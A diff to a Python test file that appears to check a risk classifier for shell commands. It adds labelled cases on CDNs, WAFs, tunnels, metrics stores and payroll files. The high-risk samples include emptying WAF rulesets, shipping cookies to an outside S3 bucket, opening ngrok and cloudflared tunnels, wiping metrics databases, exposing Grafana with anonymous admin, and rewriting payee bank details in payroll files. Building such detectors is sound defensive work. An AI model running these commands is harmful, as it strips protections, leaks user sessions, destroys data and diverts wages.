@@ -5402,6 +5402,92 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             'ERE host_key LIKE \'%localhost%\';"',
             S,
         ),
+        # holdout264-267: CDNs and WAFs (rulesets emptied, blocklists, logpush of cookies), tunnels only when served,
+        # caches, metrics stores (every series, short retention, dropped chunks, anonymous admin), payee accounts
+        (
+            'for phase in http_ratelimit http_request_firewall_managed; do\n'
+            '  curl -s -X PUT "https://api.cloudflare.com/client/v4/zones/$Z/rulesets/phases/'
+            '$phase/entrypoint" -H "Authorization: Bearer $T" --data \'{"rules":[]}\'\n'
+            'done',
+            H,
+        ),
+        (
+            'curl -s "https://api.cloudflare.com/client/v4/zones/$Z/rulesets/phases/http_requ'
+            'est_firewall_managed/entrypoint" -H "Authorization: Bearer $T" > waf-backup.json',
+            L,
+        ),
+        (
+            'fastly acl-entry list --acl-id "$ACL" --json | jq -r \'.[].EntryID\' | while read '
+            '-r id; do\n'
+            '  fastly acl-entry delete --acl-id "$ACL" --id "$id"\n'
+            'done',
+            H,
+        ),
+        (
+            'curl -s -X POST "https://api.cloudflare.com/client/v4/zones/$Z/logpush/jobs" -H '
+            '"Authorization: Bearer $T" --data \'{"dataset":"http_requests","destination_conf"'
+            ':"s3://free-log-archive/cf","output_options":{"field_names":["ClientIP","Cookies'
+            '"]}}\'',
+            H,
+        ),
+        (
+            'curl -s -X POST "https://api.cloudflare.com/client/v4/zones/$Z/logpush/jobs" -H '
+            '"Authorization: Bearer $T" --data \'{"dataset":"http_requests","destination_conf"'
+            ':"s3://acme-logs/cf","output_options":{"field_names":["ClientIP","EdgeResponseSt'
+            'atus"]}}\'',
+            L,
+        ),
+        (
+            'cloudflared tunnel list\n'
+            'cloudflared tunnel info office-gw',
+            S,
+        ),
+        ('cloudflared tunnel --url http://localhost:8080', H),
+        ('sudo find /var/cache/nginx -type f -delete', M),
+        ('ngrok tcp 5432 --authtoken "$NGROK_TOKEN" &', H),
+        ('curl -s -X POST -g "$PROM/api/v1/admin/tsdb/delete_series?match[]={__name__=~\\".+\\"}"', H),
+        ('curl -s -X POST -g "$PROM/api/v1/admin/tsdb/delete_series?match[]=up{job=\\"old-exporter\\"}"', L),
+        (
+            "for id in $(influx bucket list --json | jq -r '.[].id'); do influx bucket update"
+            ' --id "$id" --retention 1h; done',
+            H,
+        ),
+        ('influx bucket update --id "$TEST_BUCKET" --retention 1h', S),
+        (
+            "for db in $(influx -execute 'SHOW DATABASES' -format csv | tail -n +2 | cut -d, "
+            '-f2); do\n'
+            '  influx -execute "DROP DATABASE \\"$db\\""\n'
+            'done',
+            H,
+        ),
+        (
+            'psql -h tsdb-prod.internal -d metrics -c "SELECT drop_chunks(\'metrics\', older_th'
+            'an => now() + interval \'1 day\');"',
+            H,
+        ),
+        (
+            'psql -h tsdb-prod.internal -d metrics -c "SELECT drop_chunks(\'metrics\', older_th'
+            'an => now() - interval \'90 days\');"',
+            S,
+        ),
+        (
+            'docker run -d --name grafana -p 0.0.0.0:3000:3000 -e GF_AUTH_ANONYMOUS_ENABLED=t'
+            'rue -e GF_AUTH_ANONYMOUS_ORG_ROLE=Admin grafana/grafana:10.4.2',
+            H,
+        ),
+        (
+            'sudo grafana-cli plugins install grafana-clock-panel\n'
+            'sudo systemctl restart grafana-server',
+            M,
+        ),
+        (
+            'for f in /srv/payroll/bacs/outgoing/*.csv; do\n'
+            '  awk -F, \'BEGIN{OFS=","} NR>1 && $5+0 > 1500 {$3="40-12-76"; $4="83920114"} {pr'
+            'int}\' "$f" > "$f.tmp" && mv "$f.tmp" "$f"\n'
+            'done',
+            H,
+        ),
+        ("awk -F, 'NR>1 {total += $5} END {print total}' /srv/payroll/bacs/outgoing/week32.csv", S),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
